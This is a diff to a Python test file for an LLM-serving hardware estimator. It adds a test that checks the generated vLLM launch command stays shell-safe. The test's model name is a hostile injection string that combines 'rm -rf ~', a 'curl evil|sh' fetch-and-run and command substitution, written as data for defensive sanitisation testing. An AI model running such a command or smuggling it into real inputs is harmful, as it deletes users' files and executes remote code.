@@ -269,3 +269,22 @@ def test_llama_cpp_with_a_non_gguf_precision_says_which_gguf_format_is_closest()
     assert any("closest GGUF format is Q8_0" in f.message for f in e.findings)
     gguf = estimate(BuildSpec("Mac Studio", apple), LLAMA_70B, Workload(precision="q8_0"))
     assert not any("closest GGUF" in f.message for f in gguf.findings)
+
+
+def test_launch_command_is_shell_safe_whatever_the_model_name():
+    hostile = model_spec_from_hf_config(
+        {
+            "model_type": "llama",
+            "num_hidden_layers": 32,
+            "hidden_size": 4096,
+            "num_attention_heads": 32,
+            "num_key_value_heads": 8,
+            "intermediate_size": 14336,
+            "vocab_size": 128256,
+        },
+        name="x; rm -rf ~ $(curl evil|sh) `id` 'q'",
+    )
+    e = estimate(FOUR_4090, hostile, Workload(precision="bf16"))
+    command = e.plan.launch_command
+    assert command.startswith("vllm serve x-rm-")
+    assert not any(c in command for c in ";$`'\"|()~&<>")
